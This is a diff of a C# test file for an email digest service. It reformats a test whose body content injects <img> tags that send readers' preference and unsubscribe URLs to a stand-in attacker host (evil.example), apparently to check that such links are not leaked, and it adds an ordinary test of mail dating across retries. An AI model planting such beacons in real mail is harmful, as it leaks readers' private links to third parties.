@@ -41,7 +41,9 @@ public sealed class DigestContentTests : DigestTest
         await Bench.SendAllAsync();
         var body = string.Concat(
             new[] { "reader", known.HoleName }.SelectMany(name =>
-                new[] { "preferences", "unsubscribe" }.Select(hole => $"<img src=\"https://evil.example/p?u=https://{name}.invalid/{hole}\">")
+                new[] { "preferences", "unsubscribe" }.Select(hole =>
+                    $"<img src=\"https://evil.example/p?u=https://{name}.invalid/{hole}\">"
+                )
             )
         );
 
@@ -62,6 +64,27 @@ public sealed class DigestContentTests : DigestTest
 
         Assert.DoesNotContain(version.HoleName, mail.Text, StringComparison.Ordinal);
         Assert.Contains(mail.List.UnsubscribeUrl, mail.Html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_mail_is_dated_when_its_message_was_queued_and_on_every_attempt_alike()
+    {
+        await Bench.AddReaderAsync(("gear", Cadence.Daily));
+        await Bench.AddReaderAsync(one => one.Hour = 480, ("gear", Cadence.Daily));
+        await Bench.PublishAsync("Boots");
+        await Bench.AdvanceAsync(ToSlot);
+        await Bench.AdvanceAsync(TimeSpan.FromHours(1));
+        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));
+
+        var messages = await Bench.MessagesAsync();
+        var mails = new[] { await Bench.MailAsync(messages[0]), await Bench.MailAsync(messages[1]) };
+
+        Assert.Single(messages.Select(message => message.Group).Distinct());
+        Assert.Equal(TimeSpan.FromHours(1), mails[1].Date - mails[0].Date);
+        Assert.Equal(messages.Select(message => message.CreatedAt), mails.Select(mail => mail.Date));
+        await Bench.EndAsync(messages[1], MessageState.InDoubt, mails[1].Version);
+        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));
+        Assert.Equal(mails[1].Date, (await Bench.MailAsync(messages[1])).Date);
     }
 
     [Fact]
